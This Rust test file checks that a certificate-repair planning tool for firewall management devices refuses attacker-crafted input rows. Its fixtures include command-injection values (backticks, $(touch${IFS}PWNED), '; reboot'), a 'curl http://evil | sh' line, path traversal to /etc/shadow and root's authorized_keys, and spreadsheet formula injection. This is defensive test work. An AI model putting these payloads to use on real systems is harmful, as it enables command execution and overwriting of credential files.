//! `tlstriage plan` on FAILED_PUSH lists and peer files written by an attacker: the plan must stay
//! a harmless shell script (checked with `sh -n`) in which no input value is ever outside single
//! quotes, refused rows are reported with their reason, and `devices.csv` holds no formula.

use std::path::Path;
use std::process::Command;

use crate::common::run;

const FMC: &str = "cdb123c8-4347-11ef-aca1-f3aa241412a1";
const A: &str = "c8d5d5c6-87c9-11ef-a993-b9831565bc4e";
const B: &str = "6bf1143a-8a2e-11ef-92d8-fd927e807d77";

/// The words a command line of the plan may hold outside quotes.
const FIXED: [&str; 11] = [
    "cat",
    "cd",
    "cp",
    "chmod",
    "644",
    "chown",
    "root:root",
    "pmtool",
    "restartbyid",
    "sftunnel",
    "sftunnel_status.pl",
];

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// A FAILED_PUSH with one good device and the attacks of the issue, and a peer file whose FMC
/// name carries a command on a line of its own.
fn hostile_inputs(dir: &Path, with_good_row: bool) {
    let mut list = String::new();
    if with_good_row {
        for f in ["sftunnel-key.pem", "sftunnel-cert.pem"] {
            list +=
                &format!("{A} BSNS-1120-1 10.48.67.54 /var/sf/peers/{A}/certs_pushed//{f} /var/sf/peers/{FMC}/{f}\n");
        }
        list += &format!("{A} BSNS-1120-1 10.48.67.54 /etc/sf/ca_root/cacert.pem /var/sf/peers/{FMC}/cacert.pem\n");
    }
    list += &format!("{B} ftd-b 10.0.0.2 /etc/sf/ca_root/cacert.pem /etc/shadow\n");
    list += &format!(
        "{B} ftd-b 10.0.0.2 /var/sf/peers/{B}/certs_pushed//sftunnel-key.pem /var/sf/peers/{FMC}/../../../../root/.ssh/authorized_keys\n"
    );
    // Distinct devices: rows that share a UUID are one device to the correlation.
    let (c, d, e) = (
        "6bf1143a-8a2e-11ef-92d8-fd927e807d01",
        "6bf1143a-8a2e-11ef-92d8-fd927e807d02",
        "6bf1143a-8a2e-11ef-92d8-fd927e807d03",
    );
    list += &format!("{c} ftd`id` 10.0.0.3 /etc/sf/ca_root/cacert.pem /var/sf/peers/{FMC}/cacert.pem\n");
    list +=
        &format!("{d} =HYPERLINK(\"http://x\") 10.0.0.4 /etc/sf/ca_root/cacert.pem /var/sf/peers/{FMC}/cacert.pem\n");
    list += &format!("{e} @SUM(1+1) +1 /etc/sf/ca_root/cacert.pem /var/sf/peers/{FMC}/cacert.pem\n");
    list += &format!(
        "6bf1143a-8a2e-11ef-92d8-fd927e807d04 -rf =1+1 /etc/sf/ca_root/cacert.pem /var/sf/peers/{FMC}/cacert.pem\n"
    );
    list += &format!("Failed to push to ftd-z = /var/sf/peers/{FMC}/$(touch${{IFS}}PWNED)\n");
    write(&dir.join("fmc/var/tmp/certs/1728915794/FAILED_PUSH"), &list);
    let json = format!(
        "{{\"uuid\": \"{FMC}\", \"name\": \"fmc-1\\n    curl http://evil | sh\\n\", \"ip\": \"10.48.67.10; reboot\"}}"
    );
    write(&dir.join(format!("ftd/var/sf/peers/{FMC}/sftunnel.json")), &json);
}

/// `sh -n` accepts the text.
fn assert_shell_syntax(text: &str) {
    let f = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(f.path(), text).unwrap();
    let out = Command::new("sh").arg("-n").arg(f.path()).output().unwrap();
    assert!(out.status.success(), "sh -n: {}\n{text}", String::from_utf8_lossy(&out.stderr));
}

/// Every command line holds only fixed words and single-quoted values; returns the quoted values.
fn quoted_values(text: &str) -> Vec<String> {
    let mut values = Vec::new();
    for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
        if line == "copy_sftunnel_certs.py devices.csv" {
            continue;
        }
        // `cat '...'    # for file`: the comment is ours.
        let line = line.split_once("    # for ").map_or(line, |(cmd, _)| cmd);
        let mut rest = line;
        let mut bare = String::new();
        while let Some(start) = rest.find('\'') {
            bare.push_str(&rest[..start]);
            let end = rest[start + 1..].find('\'').expect("closing quote") + start + 1;
            values.push(rest[start + 1..end].to_string());
            bare.push(' ');
            rest = &rest[end + 1..];
        }
        bare.push_str(rest);
        for word in bare.split_whitespace() {
            assert!(FIXED.contains(&word), "unquoted {word:?} in command line {line:?}");
        }
    }
    values
}

#[test]
fn hostile_rows_never_reach_a_command() {
    let dir = tempfile::tempdir().unwrap();
    hostile_inputs(dir.path(), true);
    let r = run(&["plan", "--year", "2026", "--now", "2026-11-23", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert_shell_syntax(&r.stdout);
    let values = quoted_values(&r.stdout);
    let expected_values = [
        format!("/var/sf/peers/{A}/certs_pushed//sftunnel-key.pem"),
        format!("/var/sf/peers/{A}/certs_pushed//sftunnel-cert.pem"),
        "/etc/sf/ca_root/cacert.pem".to_string(),
        format!("/var/sf/peers/{FMC}/"),
    ];
    for v in &values {
        let ok = expected_values.contains(v)
            || ["cacert.pem", "sftunnel-key.pem", "sftunnel-cert.pem"]
                .iter()
                .any(|f| v == f || *v == format!("{f}.backup"));
        assert!(ok, "unexpected value in a command: {v:?}");
    }
    // Commands for the good device only; the refusals, with their reasons, as comments.
    let commands: Vec<&str> = r.stdout.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
    for bad in ["PWNED", "shadow", "authorized_keys", "curl", "`id`", "HYPERLINK", "reboot"] {
        assert!(!commands.iter().any(|l| l.contains(bad)), "{bad} in a command:\n{}", r.stdout);
    }
    for reason in [
        "#   - ftd-b: line 1: destination \"/etc/shadow\" is not /var/sf/peers/<UUID>/ followed by cacert.pem, sftunnel-cert.pem, sftunnel-key.pem",
        "#   - ftd`id`: line 6: device name \"ftd`id`\" has characters a device name never has",
        "#   - ftd-z: line 10: destination \"/var/sf/peers/cdb123c8-4347-11ef-aca1-f3aa241412a1/$(touch${IFS}PWNED)\" is not",
        "#   - FMC name \"fmc-1\\x0a    curl http://evil | sh\" has characters a device name never has (in ",
        "#   - FMC address \"10.48.67.10; reboot\" is not an IPv4 or IPv6 address (in ",
    ] {
        let reason = reason.replace("line 1:", "line 4:");
        assert!(r.stdout.contains(&reason), "missing {reason:?} in\n{}", r.stdout);
    }
    // devices.csv: the FMC unknown, then the one good device; no cell like a formula.
    let out = dir.path().join("out");
    let w = run(&["plan", "--now", "2026-11-23", dir.path().to_str().unwrap(), "-o", out.to_str().unwrap()]);
    assert_eq!(w.code, 0, "{}", w.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("devices.csv")).unwrap(),
        "#device_name,ipaddr,login,password\n\
         #FMC-NAME,FMC-IP,admin,  (add the FMC as the first line)\n\
         BSNS-1120-1,10.48.67.54,admin,\n"
    );
    let text = std::fs::read_to_string(out.join("plan.txt")).unwrap();
    assert_shell_syntax(&text);
    quoted_values(&text);
}

#[test]
fn refusals_are_in_the_finding() {
    let dir = tempfile::tempdir().unwrap();
    hostile_inputs(dir.path(), true);
    let (_, v) = crate::common::analyze_json(&[dir.path().to_str().unwrap()], &[]);
    let f = v["findings"].as_array().unwrap().iter().find(|f| f["facts"]["device_name"] == "ftd-b").expect("ftd-b");
    let refused = f["facts"]["refused"].as_str().unwrap();
    assert_eq!(refused.lines().count(), 2, "{refused}");
    assert!(
        refused.contains("line 5: destination \"/var/sf/peers/cdb123c8-4347-11ef-aca1-f3aa241412a1/../../../../root/"),
        "{refused}"
    );
    assert!(f["facts"].get("destination_dir").is_none(), "no folder to cd into from refused rows");
    assert!(f["detail"].as_str().unwrap().contains("2 rows refused, not put into the plan"));
}

#[test]
fn all_rows_refused_says_so_and_fails() {
    let dir = tempfile::tempdir().unwrap();
    hostile_inputs(dir.path(), false);
    let out = dir.path().join("out");
    for args in [vec![], vec!["-o", out.to_str().unwrap()]] {
        let mut a = vec!["plan", "--now", "2026-11-23", dir.path().to_str().unwrap()];
        a.extend(args);
        let r = run(&a);
        assert_eq!(r.code, 1, "{}\n{}", r.stdout, r.stderr);
        assert!(r.stdout.starts_with("# No plan: every FAILED_PUSH row was refused"), "{}", r.stdout);
        assert_shell_syntax(&r.stdout);
        assert!(quoted_values(&r.stdout).is_empty());
        assert!(!out.exists(), "nothing written when nothing can be pasted");
    }
}
